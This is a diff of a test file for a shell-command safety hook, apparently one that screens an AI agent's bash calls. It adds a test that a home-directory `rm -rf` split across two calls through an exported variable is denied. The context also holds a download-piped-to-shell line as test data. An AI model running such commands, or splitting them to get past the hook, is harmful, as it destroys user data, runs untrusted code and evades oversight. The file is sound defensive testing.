@@ -223,6 +223,16 @@ def test_function_defined_in_an_earlier_call(hook, proj):
     assert bash(hook, proj, "g https://dl.example.net/i.sh | sh", session_id="other-session")[0] == "allow"
 
 
+def test_variable_exported_in_an_earlier_call(hook, proj):
+    """`export T=~` in one call, `rm -rf "$T"` in the next: split across calls, judged as one."""
+    if hook.mode == "fallback":
+        pytest.skip("the in-process fallback has no memory between calls (README: Split across calls)")
+    assert bash(hook, proj, "export T=~", session_id="vars")[0] == "allow"
+    decision, reason = bash(hook, proj, 'rm -rf "$T"', session_id="vars")
+    assert decision == "deny", reason
+    assert "as set by" in hook.audited()
+
+
 def test_downloaded_then_run_is_judged_like_the_one_liner(hook, proj):
     if hook.mode == "fallback":
         pytest.skip("the in-process fallback has no memory between calls (README: Split across calls)")
